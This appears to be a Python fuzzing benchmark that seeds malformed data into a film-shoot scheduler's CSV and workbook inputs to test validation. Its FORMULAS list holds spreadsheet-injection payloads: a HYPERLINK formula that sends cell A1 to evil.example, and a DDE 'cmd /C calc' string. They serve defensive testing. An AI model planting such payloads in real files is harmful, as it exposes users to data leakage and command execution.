"""Input that cannot hurt (issue 12): seeded faults in a scenario's files, and what came of them.

Usage::

    python -m scheduler.cli.fuzz_benchmark sample_data/zhengzhou-month \\
        --csv-cases 3000 --workbook-cases 400 --seeds 1 2
    python -m scheduler.cli.fuzz_benchmark sample_data/zhengzhou-month --seeds 1 \\
        --only-case csv:1234 --keep /tmp/case     # replay one case, keep its files

Each case starts from the sample month's CSV folder (with a few rows of
unavailable.csv, travel.csv and pins.csv added, so those files are hit too) or
from the workbook :func:`scheduler.io.scenario_files.scenario_to_xlsx_bytes`
makes of it, and puts one to three faults in it, drawn by the seed: a stray or
misplaced quote, a quoted line break, a deleted comma or cell, extra cells,
rows swapped, deleted or repeated, blank cells, numbers of 5,000 digits, below
zero, zero, past 2³¹−1, as float text (1500.0, 1e9, nan, inf), NUL and control
characters, cells of 3,000 or 200,000 characters, formula-like text, BOMs,
Latin-1 and GBK bytes, damaged headers, unknown ids, bad dates, damaged
scenario.toml (days, start_date, nan, "$date", ``targets = 5`` above
``[targets]``, broken TOML), pins outside their title's window, empty and
deleted files; in a workbook, numbers, dates, formulas, merged cells, deleted
and renamed sheets and rows far below the data. The CSV folders are sometimes
uploaded as a zip as well (:func:`scenario_from_upload`).

The oracle: reading a case either refuses it with a
:class:`~scheduler.domain.errors.ScenarioError` or returns a Scenario. Counted
as failures:

- **crash**: any other exception;
- **long message**: a problem over 300 characters, or on more than one line,
  in Chinese or English;
- **misplaced**: a fault that must be reported at a line of a file (or at the
  file) is not, although problems were reported;
- **wrongly accepted**: such a fault, and yet the case was accepted;
- **silent loss**: accepted, yet the scenario does not hold every non-blank row
  of every file with its cells as written (compared with the files parsed
  independently by the csv module or openpyxl); a title with scenes and no
  title_needs rows holds the needs its scenes pack into, and a blank day_night or
  int_ext holds 日 or 内 (SPEC, scenes.csv);
- **unstorable**: accepted, yet saving it to SQLite or PostgreSQL fails, or it
  loads back different;
- **upload differs**: a folder and the zip of it are not judged alike.

Prints the figures per seed and the first few failures of each kind with the
command that replays them; exits 1 if any failure was counted.
"""

from __future__ import annotations

import argparse
import csv
import io
import math
import os
import random
import re
import tempfile
import time
import tomllib
import traceback
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from pathlib import Path
from typing import Any

from scheduler.domain.errors import Problem, ScenarioError
from scheduler.domain.model import Scenario
from scheduler.domain.scenes import DAY_NIGHT, INT_EXT
from scheduler.io.scenario_files import scenario_from_upload, scenario_to_xlsx_bytes
from scheduler.io.tables import SETTINGS_FILE, SHEET_BY_NAME, SHEETS, scenario_to_tables
from scheduler.io.validation import load_scenario

DEFAULT_SCENARIO = Path(__file__).resolve().parents[2] / "sample_data" / "zhengzhou-month"
POSTGRES_URL = os.environ.get(
    "SHOOTPLAN_TEST_POSTGRES_URL", "postgresql+psycopg://postgres@127.0.0.1:5432/test"
)
MAX_MESSAGE_CHARS = 300
INT_MAX = 2**31 - 1
MAX_ID_CHARS = 200
MAX_TEXT_CHARS = 2000
FAILURE_KINDS = (
    "crash",
    "long message",
    "misplaced",
    "wrongly accepted",
    "silent loss",
    "unstorable",
    "upload differs",
)
SHOWN_PER_KIND = 5

csv.field_size_limit(2**31 - 1)  # the oracle parses what the reader may refuse

EXTRA_FILES = {
    "unavailable.csv": (
        "kind,id,from_date,to_date,note\n"
        "crew,C03,2026-12-05,2026-12-07,剧组休整\n"
        "actor,A010,2026-12-10,2026-12-12,档期冲突\n"
        "set,S05,2026-12-01,2026-12-03,检修\n"
        "base,B02,2026-12-20,2026-12-21,\n"
    ),
    "travel.csv": "from_city,to_city,days\n郑州,开封,1\n开封,郑州,1\n郑州,洛阳,2\n",
    "pins.csv": (
        "title_id,start_date,base_id,crew_id\nT0001,2026-12-01,B01,C01\nT0002,,B02,\nT0003,,,C04\n"
    ),
}
"""Rows of the optional files, added to the sample month so that faults can hit them."""

# -- what each column holds ------------------------------------------------------------

NUMBER_MINIMUM: dict[tuple[str, str], tuple[int, bool]] = {
    ("bases", "max_crews"): (1, True),
    ("sets", "day_rate"): (0, False),
    ("crews", "day_rate"): (0, False),
    ("crews", "max_days_in_row"): (1, True),
    ("actors", "day_rate"): (0, False),
    ("titles", "priority"): (1, False),
    ("title_needs", "days"): (1, False),
    ("travel", "days"): (0, False),
}
"""Whole-number columns: (minimum, blank allowed)."""

DATE_COLUMNS: dict[tuple[str, str], bool] = {
    ("titles", "earliest_start"): False,
    ("titles", "due_date"): False,
    ("unavailable", "from_date"): False,
    ("unavailable", "to_date"): False,
    ("pins", "start_date"): True,
}
"""Date columns: blank allowed."""

REQUIRED_TEXT = {
    ("bases", "base_id"),
    ("bases", "name"),
    ("bases", "city"),
    ("sets", "set_id"),
    ("sets", "base_id"),
    ("sets", "set_type"),
    ("crews", "crew_id"),
    ("crews", "name"),
    ("crews", "home_base_id"),
    ("actors", "actor_id"),
    ("actors", "name"),
    ("titles", "title_id"),
    ("titles", "name"),
    ("titles", "genre"),
    ("title_needs", "title_id"),
    ("title_needs", "set_type"),
    ("unavailable", "kind"),
    ("unavailable", "id"),
    ("travel", "from_city"),
    ("travel", "to_city"),
    ("pins", "title_id"),
}
"""Text cells that must not be blank."""

REFERENCES = {
    ("sets", "base_id"),
    ("crews", "home_base_id"),
    ("title_needs", "title_id"),
    ("title_needs", "set_type"),
    ("pins", "title_id"),
    ("pins", "base_id"),
    ("pins", "crew_id"),
    ("unavailable", "id"),
    ("unavailable", "kind"),
    ("titles", "cast"),
}
"""Cells that must name something that exists: an unknown value is refused on its row."""

ID_COLUMNS = {
    ("bases", "base_id"),
    ("sets", "set_id"),
    ("crews", "crew_id"),
    ("actors", "actor_id"),
    ("titles", "title_id"),
}
LIST_COLUMNS = {"genres", "cast"}
NUMBER_COLUMNS = {column for _, column in NUMBER_MINIMUM} | {"minutes"}
"""Columns compared as whole numbers (a scene's minutes too, though no fault aims at them)."""
BLANK_MEANS = {"day_night": DAY_NIGHT[0], "int_ext": INT_EXT[0]}
"""Optional scenes.csv cells whose blank the scenario holds as a word."""
DATE_NAMES = {column for _, column in DATE_COLUMNS}
UNIQUE_ROWS = {"bases", "sets", "crews", "actors", "titles", "title_needs", "travel", "pins"}
"""Sheets where a repeated row is refused (same id, or same key)."""

# -- values the faults write -----------------------------------------------------------

HUGE_NUMBER = "9" * 5000
OUT_OF_RANGE = ("-1", "-2147483649", "0", "2147483648", "9223372036854775808", "99999999999999")
FLOAT_TEXT = ("1500.0", "1e9", "nan", "inf", "-inf", "1500.5", "0x10", "1_000")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-2",
    "@x",
    "\t=1",
)
CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""What validation refuses in any cell (a tab is kept)."""
CONTROL_TEXT = ("\x00", "\x07", "\x1b[31m", "\x7f", "\u200b", "\x0b", "\u2028", "\x85")
BAD_DATES = (
    "2026-13-01",
    "2026-02-30",
    "9999-12-31",
    "0001-01-01",
    "2026/12/01",
    "2026年12月1日",
    "01/12/2026",
    "20261201",
)
"""Dates that are not, or are far away, or written in ways issue 13 reads (2026/12/01)."""
UNKNOWN_IDS = ("ZZ99", "B99", "C99", "T9999", "A999", "不存在")


@dataclass
class Line:
    """One line of a file as written, ``text`` without its line end (it may hold line breaks).

    ``raw`` replaces the line's bytes (line end included) when a fault wrote
    other bytes than UTF-8; ``damaged`` marks text no longer split into cells
    safely (a stray quote, a deleted comma).
    """

    text: str
    raw: bytes | None = None
    damaged: bool = False

    def data(self) -> bytes:
        return self.raw if self.raw is not None else (self.text + "\n").encode("utf-8")

    def breaks(self) -> int:
        text = self.raw.decode("latin-1") if self.raw is not None else self.text + "\n"
        return len(re.findall(r"\r\n|\r|\n", text))


@dataclass
class Doc:
    """A file of the folder: its lines, or ``None`` when deleted."""

    name: str
    lines: list[Line] | None
    bom: bool = False
    unreadable: bool = False
    header_damaged: bool = False

    def data(self) -> bytes:
        body = b"".join(line.data() for line in self.lines or [])
        return (b"\xef\xbb\xbf" if self.bom else b"") + body

    def line_number(self, target: Line) -> int | None:
        """The physical line (header = 1) on which ``target`` begins, or ``None`` if gone."""
        number = 1
        for line in self.lines or []:
            if line is target:
                return number
            number += line.breaks()
        return None


@dataclass
class Fault:
    """One fault put into a case, and where (if anywhere) it must be reported.

    ``expect`` is ``"line"`` (refused, naming ``file`` and the line ``target``
    begins on), ``"file"`` (refused, naming ``file``), ``"quote"`` (refused at
    the line if the quote swallowed a line break) or ``None`` (either outcome).
    """

    kind: str
    file: str
    detail: str
    expect: str | None = None
    target: Any = None
    line: int | None = None
    depends: tuple[str, ...] = ()
    """Files whose ids the expectation relies on (a reference is not checked without them)."""

    def describe(self) -> str:
        where = self.file if self.line is None else f"{self.file}:{self.line}"
        return f"{self.kind} @ {where}: {self.detail[:160]!r}"


@dataclass
class Failure:
    """A counted failure of one case, with what it takes to replay it."""

    kind: str
    case: str
    detail: str
    faults: list[str]

    def replay(self, folder: str) -> str:
        seed, kind, index = self.case.split(":")
        return (
            f"python -m scheduler.cli.fuzz_benchmark {folder} --seeds {seed} "
            f"--only-case {kind}:{index}"
        )


@dataclass
class Tally:
    """Figures of a fuzz run."""

    cases: Counter[str] = field(default_factory=Counter)
    accepted: Counter[str] = field(default_factory=Counter)
    refused: Counter[str] = field(default_factory=Counter)
    failures: list[Failure] = field(default_factory=list)
    stored: Counter[str] = field(default_factory=Counter)
    kept: list[tuple[str, Scenario, list[str]]] = field(default_factory=list)

    def count(self, kind: str) -> int:
        return sum(1 for failure in self.failures if failure.kind == kind)

    def of_kind(self, kind: str) -> list[Failure]:
        return [failure for failure in self.failures if failure.kind == kind]


# -- the base folder -------------------------------------------------------------------


def base_files(folder: Path) -> dict[str, str]:
    """The text of every file of the scenario folder, with :data:`EXTRA_FILES` where absent."""
    files = {
        path.name: path.read_text(encoding="utf-8-sig")
        for path in sorted(folder.iterdir())
        if path.suffix == ".csv" or path.name == SETTINGS_FILE
    }
    for name, text in EXTRA_FILES.items():
        files.setdefault(name, text)
    return files


def _docs(files: dict[str, str]) -> dict[str, Doc]:
    return {
        name: Doc(name, [Line(text) for text in content.splitlines()])
        for name, content in files.items()
    }


# -- faults in CSV folders ---------------------------------------------------------------


def _sheet(name: str) -> str:
    return name.removesuffix(".csv")


def _cells(line: Line) -> list[str]:
    try:
        return next(csv.reader(io.StringIO(line.text, newline="")), [])
    except csv.Error:
        return []


def _set_cells(line: Line, cells: list[str]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)  # quotes cells holding \r or \n
    line.text = buffer.getvalue().removesuffix("\r\n")


def _csv_docs(docs: dict[str, Doc]) -> list[Doc]:
    return [doc for name, doc in docs.items() if name.endswith(".csv") and doc.lines]


def _data_line(rng: random.Random, doc: Doc, clean: bool = True) -> Line | None:
    lines = [
        line
        for line in (doc.lines or [])[1:]
        if line.text.strip(", ") and not (clean and (line.damaged or line.raw is not None))
    ]
    return rng.choice(lines) if lines else None


def _header(doc: Doc) -> list[str]:
    return [cell.strip() for cell in _cells(doc.lines[0])] if doc.lines else []


@dataclass
class Spot:
    """A cell picked for a fault: its file, line, column and the cells of its line."""

    doc: Doc
    line: Line
    column: str
    index: int
    cells: list[str]

    @property
    def sheet(self) -> str:
        return _sheet(self.doc.name)


def _spot(
    rng: random.Random, docs: dict[str, Doc], wanted: Callable[[str, str], bool] | None = None
) -> Spot | None:
    """A random clean cell of a CSV file, of a column ``wanted(sheet, column)`` accepts."""
    candidates = []
    for doc in _csv_docs(docs):
        if doc.header_damaged:
            continue
        for index, column in enumerate(_header(doc)):
            if wanted is None or wanted(_sheet(doc.name), column):
                candidates.append((doc, index, column))
    rng.shuffle(candidates)
    for doc, index, column in candidates:
        line = _data_line(rng, doc)
        if line is None:
            continue
        cells = _cells(line)
        if index < len(cells):
            return Spot(doc, line, column, index, cells)
    return None


def known_values(docs: dict[str, Doc]) -> dict[tuple[str, str], set[str]]:
    """Values of the columns other rows point at: ids, set types, kinds."""
    known: dict[tuple[str, str], set[str]] = {
        ("unavailable", "kind"): {"set", "crew", "actor", "base"}
    }
    for doc in _csv_docs(docs):
        header = _header(doc)
        for line in doc.lines[1:] if doc.lines else []:
            for column, cell in zip(header, _cells(line), strict=False):
                known.setdefault((_sheet(doc.name), column), set()).add(cell.strip())
    return known


TARGET_OF = {
    ("sets", "base_id"): ("bases", "base_id"),
    ("crews", "home_base_id"): ("bases", "base_id"),
    ("title_needs", "title_id"): ("titles", "title_id"),
    ("title_needs", "set_type"): ("sets", "set_type"),
    ("pins", "title_id"): ("titles", "title_id"),
    ("pins", "base_id"): ("bases", "base_id"),
    ("pins", "crew_id"): ("crews", "crew_id"),
    ("titles", "cast"): ("actors", "actor_id"),
    ("unavailable", "kind"): ("unavailable", "kind"),
}


def _whole(text: str) -> int | None:
    text = text.strip()
    if not re.fullmatch(r"[+-]?[0-9]+(\.0*)?", text) or len(text) > 40:
        return None
    return int(text.split(".")[0])


_DATE = re.compile(r"([0-9]{4})(?:-|/|\.|年)([0-9]{1,2})(?:-|/|\.|月)([0-9]{1,2})日?")
"""ISO dates and the ways issue 13 reads: 2026/12/1, 2026-12-1, 2026.12.1, 2026年12月1日."""


def _iso_date(text: str) -> date | None:
    found = _DATE.fullmatch(text.strip())
    if found is None:
        return None
    try:
        return date(*(int(part) for part in found.groups()))
    except ValueError:
        return None


def must_refuse(
    sheet: str, column: str, value: str, known: dict[tuple[str, str], set[str]]
) -> bool:
    """Whether ``value`` in ``sheet.column`` must be refused on its own row, whatever else holds.

    Unknown references, blank required cells, numbers that are not whole or
    below their minimum or past 2³¹−1, dates that are not dates, NUL bytes, other
    control characters (a tab aside) inside the cell once the reader has trimmed its
    whitespace (\\x0b and \\x85 at an end are trimmed like spaces), and text longer than
    the database keeps (200 for ids, 2,000 otherwise).
    """
    text = value.strip()
    key = (sheet, column)
    if "\x00" in value or CONTROL_CHARACTER.search(text) or len(text) > MAX_TEXT_CHARS:
        return True
    if (key in ID_COLUMNS or key in REFERENCES) and len(text) > MAX_ID_CHARS:
        return True
    if not text:
        if key in NUMBER_MINIMUM:
            return not NUMBER_MINIMUM[key][1]
        if key in DATE_COLUMNS:
            return not DATE_COLUMNS[key]
        return key in REQUIRED_TEXT
    if key in NUMBER_MINIMUM:
        number = _whole(text)
        return number is None or number < NUMBER_MINIMUM[key][0] or number > INT_MAX
    if key in DATE_COLUMNS:
        return _iso_date(text) is None
    if key in TARGET_OF:
        target = known.get(TARGET_OF[key], set())
        if column == "cast":
            items = [item.strip() for item in text.replace("；", ";").split(";")]
            return any(item and item not in target for item in items)
        return text not in target
    if key == ("unavailable", "id"):
        ids = set().union(*(known.get(target, set()) for target in ID_COLUMNS))
        return text not in ids
    return False


def referenced_files(sheet: str, column: str) -> tuple[str, ...]:
    """The files a cell of ``sheet.column`` names ids of."""
    if (sheet, column) == ("unavailable", "id"):
        return tuple(f"{name}.csv" for name, _ in sorted(ID_COLUMNS))
    target = TARGET_OF.get((sheet, column))
    return (f"{target[0]}.csv",) if target and target[0] != sheet else ()


def _put(
    rng: random.Random, docs: dict[str, Doc], kind: str, values: Sequence[str], wanted: Any = None
) -> Fault | None:
    """Write one of ``values`` into a random cell (of a column ``wanted`` accepts)."""
    spot = _spot(rng, docs, wanted)
    if spot is None:
        return None
    value = rng.choice(values)
    known = known_values(docs)
    spot.cells[spot.index] = value
    _set_cells(spot.line, spot.cells)
    refuse = must_refuse(spot.sheet, spot.column, value, known)
    return Fault(
        kind,
        spot.doc.name,
        f"{spot.column} = {value}",
        "line" if refuse else None,
        spot.line,
        depends=referenced_files(spot.sheet, spot.column),
    )


def _is_number(sheet: str, column: str) -> bool:
    return (sheet, column) in NUMBER_MINIMUM


def _is_text(sheet: str, column: str) -> bool:
    return (sheet, column) not in NUMBER_MINIMUM and (sheet, column) not in DATE_COLUMNS


def _is_name(sheet: str, column: str) -> bool:
    return column in ("name", "city", "genre", "note", "genres") or (sheet, column) in ID_COLUMNS


def fault_huge_number(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "huge number", (HUGE_NUMBER, "-" + HUGE_NUMBER), _is_number)


def fault_out_of_range(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "number out of range", OUT_OF_RANGE, _is_number)


def fault_float_text(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "float text", FLOAT_TEXT, _is_number)


def fault_blank_cell(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "blank cell", ("", "  "))


def fault_formula(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "formula text", FORMULAS)


def fault_bad_date(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "bad date", BAD_DATES, lambda s, c: (s, c) in DATE_COLUMNS)


def fault_unknown_id(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    return _put(rng, docs, "unknown id", UNKNOWN_IDS, lambda s, c: (s, c) in REFERENCES)


def fault_control_text(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A NUL byte or control character inside a name, city or id."""
    spot = _spot(rng, docs, _is_name)
    if spot is None:
        return None
    cell = spot.cells[spot.index]
    at = rng.randint(0, len(cell))
    value = cell[:at] + rng.choice(CONTROL_TEXT) + cell[at:]
    known = known_values(docs)
    spot.cells[spot.index] = value
    _set_cells(spot.line, spot.cells)
    refuse = must_refuse(spot.sheet, spot.column, value, known)
    return Fault(
        "control character",
        spot.doc.name,
        f"{spot.column} = {value!r}",
        "line" if refuse else None,
        spot.line,
        depends=referenced_files(spot.sheet, spot.column),
    )


def fault_long_cell(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A cell of 200,000 characters (past the reader's limit) or 3,000 (past the database's)."""
    spot = _spot(rng, docs, _is_text)
    if spot is None:
        return None
    length = rng.choice((200_000, 3_000, 250))
    value = ("长" * length) if rng.random() < 0.5 else ("x" * length)
    known = known_values(docs)
    spot.cells[spot.index] = value
    _set_cells(spot.line, spot.cells)
    refuse = must_refuse(spot.sheet, spot.column, value, known)
    return Fault(
        "long cell",
        spot.doc.name,
        f"{spot.column} = {length:,} × {value[0]}",
        "line" if refuse else None,
        spot.line,
        depends=referenced_files(spot.sheet, spot.column),
    )


def fault_stray_quote(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A ``"`` at the start of a cell (it opens a quoted field) or anywhere in the line."""
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc)
    if line is None:
        return None
    if rng.random() < 0.6:
        starts = [0] + [match.end() for match in re.finditer(",", line.text)]
        at = rng.choice(starts)
    else:
        at = rng.randint(0, len(line.text))
    line.text = line.text[:at] + '"' + line.text[at:]
    line.damaged = True
    return Fault("stray quote", doc.name, f"{line.text[:80]}", "quote", line)


def fault_quoted_line_break(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A legal quoted cell holding a line break (``\\n`` or ``\\r\\n``)."""
    spot = _spot(rng, docs)
    if spot is None:
        return None
    cell = spot.cells[spot.index]
    at = rng.randint(0, len(cell))
    spot.cells[spot.index] = cell[:at] + rng.choice(("\n", "\r\n")) + cell[at:]
    _set_cells(spot.line, spot.cells)
    return Fault(
        "quoted line break",
        spot.doc.name,
        f"{spot.column} = {spot.cells[spot.index]!r}",
        "line",
        spot.line,
    )


def fault_delete_comma(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc)
    if line is None or "," not in line.text:
        return None
    commas = [match.start() for match in re.finditer(",", line.text)]
    at = rng.choice(commas)
    line.text = line.text[:at] + line.text[at + 1 :]
    line.damaged = True
    return Fault("deleted comma", doc.name, line.text[:80], None, line)


def fault_delete_cell(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    spot = _spot(rng, docs)
    if spot is None:
        return None
    del spot.cells[spot.index]
    _set_cells(spot.line, spot.cells)
    return Fault("deleted cell", spot.doc.name, f"{spot.column} removed", None, spot.line)


def fault_extra_cells(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc)
    if line is None:
        return None
    cells = _cells(line)
    width = len(_header(doc))
    cells = cells + [""] * max(0, width - len(cells)) + ["多余"] * rng.randint(1, 3)
    _set_cells(line, cells)
    return Fault("extra cells", doc.name, line.text[:80], "line", line)


def fault_swap_rows(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    assert doc.lines is not None
    if len(doc.lines) < 3:
        return None
    i, j = rng.sample(range(1, len(doc.lines)), 2)
    doc.lines[i], doc.lines[j] = doc.lines[j], doc.lines[i]
    return Fault("swapped rows", doc.name, f"rows {i + 1} and {j + 1}", None)


def fault_delete_row(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc, clean=False)
    if line is None or doc.lines is None:
        return None
    number = doc.line_number(line)
    doc.lines.remove(line)
    return Fault("deleted row", doc.name, f"line {number}: {line.text[:60]}", None)


def fault_duplicate_row(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A row written twice: refused at the copy where ids or keys must be unique."""
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc)
    if line is None or doc.lines is None:
        return None
    copy = Line(line.text)
    at = doc.lines.index(line) + 1 if rng.random() < 0.5 else len(doc.lines)
    doc.lines.insert(at, copy)
    expect = "line" if _sheet(doc.name) in UNIQUE_ROWS else None
    return Fault("repeated row", doc.name, line.text[:80], expect, copy)


def fault_blank_line(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    assert doc.lines is not None
    at = rng.randint(1, len(doc.lines))
    doc.lines.insert(at, Line(rng.choice(("", ",,,", "  "))))
    return Fault("blank line", doc.name, f"before line {at + 1}", None)


def fault_header(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A header column renamed, removed (from the header alone, or with its cells) or repeated."""
    doc = rng.choice(_csv_docs(docs))
    assert doc.lines is not None
    header = _cells(doc.lines[0])
    if not header:
        return None
    index = rng.randrange(len(header))
    column = header[index].strip()
    spec = SHEET_BY_NAME[_sheet(doc.name)]
    required = column in spec.required
    how = rng.choice(("rename", "remove header", "remove column", "repeat", "case"))
    doc.header_damaged = True
    expect: str | None = "line" if required else None
    if how == "rename":
        header[index] = f"{column}_x"
    elif how == "case":
        header[index] = column.upper()
    elif how == "repeat":
        header.append(column)
        expect = "line"
    elif how == "remove header":
        del header[index]
        expect = "file"
    else:
        del header[index]
        for line in doc.lines[1:]:
            if line.damaged or line.raw is not None:
                continue
            cells = _cells(line)
            if index < len(cells):
                del cells[index]
                _set_cells(line, cells)
    _set_cells(doc.lines[0], header)
    return Fault(f"header: {how}", doc.name, column, expect, doc.lines[0])


def fault_bom(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A byte-order mark at the start of the file (fine) or inside a cell."""
    doc = rng.choice(_csv_docs(docs))
    if rng.random() < 0.5:
        doc.bom = True
        return Fault("BOM at start", doc.name, "", None)
    spot = _spot(rng, {doc.name: doc}, _is_name)
    if spot is None:
        return None
    spot.cells[spot.index] = "\ufeff" + spot.cells[spot.index]
    _set_cells(spot.line, spot.cells)
    return Fault("BOM in a cell", doc.name, spot.column, None, spot.line)


def fault_encoding(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A line saved as GBK, or a Latin-1 byte inside it: the file is not UTF-8."""
    doc = rng.choice(_csv_docs(docs))
    line = _data_line(rng, doc)
    if line is None:
        return None
    if rng.random() < 0.5 and not line.text.isascii():
        line.raw = (line.text + "\n").encode("gbk", errors="replace")
        how = "GBK"
    else:
        data = (line.text + "\n").encode("utf-8")
        at = rng.randint(0, len(data) - 1)
        while at > 0 and (data[at] & 0xC0) == 0x80:
            at -= 1  # not inside a UTF-8 sequence
        line.raw = data[:at] + b"\xe9" + data[at:]
        how = "Latin-1 byte"
    try:
        line.raw.decode("utf-8")
    except UnicodeDecodeError:
        doc.unreadable = True
        return Fault(f"encoding: {how}", doc.name, line.text[:60], "file", line)
    # GBK bytes that happen to be UTF-8 too (医院 → ҽԺ): mojibake no reader can tell
    return Fault(f"encoding: {how} (valid UTF-8)", doc.name, line.text[:60], None, line)


def fault_empty_file(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    doc = rng.choice(_csv_docs(docs))
    doc.lines = []
    doc.unreadable = True
    required = SHEET_BY_NAME[_sheet(doc.name)].required_file
    return Fault("empty file", doc.name, "", "file" if required else None)


def fault_delete_file(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    names = [name for name, doc in docs.items() if doc.lines is not None]
    name = rng.choice(names)
    docs[name].lines = None
    docs[name].unreadable = True
    required = name == SETTINGS_FILE or SHEET_BY_NAME[_sheet(name)].required_file
    return Fault("deleted file", name, "", "file" if required else None)


def fault_pin_outside_window(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """A pin whose start date lies before its title's earliest start or after its due date."""
    pins, titles = docs.get("pins.csv"), docs.get("titles.csv")
    if not pins or not pins.lines or not titles or not titles.lines or pins.header_damaged:
        return None
    if titles.header_damaged:
        return None
    windows: dict[str, tuple[date, date]] = {}
    header = _header(titles)
    for title in titles.lines[1:]:
        row = dict(zip(header, (cell.strip() for cell in _cells(title)), strict=False))
        first, last = _iso_date(row.get("earliest_start", "")), _iso_date(row.get("due_date", ""))
        if first and last:
            windows[row.get("title_id", "")] = (first, last)
    line = _data_line(rng, pins)
    if line is None:
        return None
    row = dict(zip(_header(pins), _cells(line), strict=False))
    window = windows.get(row.get("title_id", "").strip())
    if window is None or "start_date" not in row:
        return None
    first, last = window
    outside = date.fromordinal(first.toordinal() - rng.randint(1, 40))
    if rng.random() < 0.5:
        outside = date.fromordinal(last.toordinal() + rng.randint(1, 40))
    row["start_date"] = outside.isoformat()
    _set_cells(line, [row.get(column, "") for column in _header(pins)])
    # the check needs the title's window and its shoot's length, from titles and title_needs
    return Fault(
        "pin outside window",
        "pins.csv",
        f"{row.get('title_id')} {outside}",
        "line",
        line,
        depends=("titles.csv", "title_needs.csv"),
    )


TOML_FAULTS: tuple[tuple[str, str, str], ...] = (
    ("days", "days = 100000000", "line"),
    ("days", "days = 0", "line"),
    ("days", "days = -5", "line"),
    ("days", f"days = {HUGE_NUMBER}", "file"),
    ("days", "days = 31.5", "line"),
    ("start_date", "start_date = 9999-12-01", "line"),
    ("start_date", "start_date = 2026-13-01", "file"),
    ("start_date", 'start_date = "tomorrow"', "line"),
    ("name", 'name = "', "file"),
    ("name", 'name = ""', "line"),
    ("name", f'name = "{"长" * 3000}"', "line"),
    ("name", 'name = "a\\u0000b"', "line"),
)
"""(key whose line is replaced, the new line, what it must give)."""


def fault_settings(rng: random.Random, docs: dict[str, Doc]) -> Fault | None:
    """Damage to scenario.toml: values out of bounds, unstorable values, broken TOML."""
    doc = docs.get(SETTINGS_FILE)
    if doc is None or doc.lines is None or doc.unreadable:
        return None
    how = rng.randrange(len(TOML_FAULTS) + 4)
    if how < len(TOML_FAULTS):
        key, text, expect = TOML_FAULTS[how]
        for line in doc.lines:
            if line.text.split("=")[0].strip() == key:
                line.text = text
                doc.unreadable = doc.unreadable or expect == "file"  # not TOML any more
                return Fault("scenario.toml", SETTINGS_FILE, text[:80], expect, line)
        return None
    how -= len(TOML_FAULTS)
    if how == 0:
        line = Line("x = nan")
        doc.lines.insert(1, line)
        return Fault("scenario.toml", SETTINGS_FILE, "x = nan", "line", line)
    if how == 1:
        doc.lines.extend([Line(""), Line("[meta]"), Line('"$date" = "zzz"')])
        return Fault("scenario.toml", SETTINGS_FILE, '[meta] "$date" = "zzz"', None)
    if how == 2:
        at = next((i for i, line in enumerate(doc.lines) if line.text == "[targets]"), None)
        if at is None:
            return None
        line = Line("targets = 5")
        doc.lines.insert(at, line)
        doc.unreadable = True
        return Fault("scenario.toml", SETTINGS_FILE, "targets = 5 above [targets]", "file", line)
    line = rng.choice(doc.lines)
    line.text = line.text.replace("=", "", 1) if "=" in line.text else line.text + " = ="
    doc.unreadable = True
    return Fault("scenario.toml", SETTINGS_FILE, f"broken: {line.text[:60]}", "file", line)


CSV_FAULTS: tuple[Callable[[random.Random, dict[str, Doc]], Fault | None], ...] = (
    fault_stray_quote,
    fault_stray_quote,
    fault_quoted_line_break,
    fault_delete_comma,
    fault_delete_cell,
    fault_extra_cells,
    fault_swap_rows,
    fault_delete_row,
    fault_duplicate_row,
    fault_blank_line,
    fault_blank_cell,
    fault_huge_number,
    fault_out_of_range,
    fault_float_text,
    fault_control_text,
    fault_long_cell,
    fault_formula,
    fault_bom,
    fault_encoding,
    fault_header,
    fault_unknown_id,
    fault_bad_date,
    fault_settings,
    fault_settings,
    fault_pin_outside_window,
    fault_empty_file,
    fault_delete_file,
)
"""Every fault a CSV case may get, repeated ones drawn more often."""


# -- a CSV case ------------------------------------------------------------------------------


@dataclass
class CsvCase:
    """A mutated scenario folder: its files' bytes (``None``: deleted) and its faults."""

    case_id: str
    files: dict[str, bytes | None]
    faults: list[Fault]
    unreadable: set[str]

    def write(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in self.files.items():
            if data is not None:
                (folder / name).write_bytes(data)

    def zip_bytes(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.files.items():
                if data is not None:
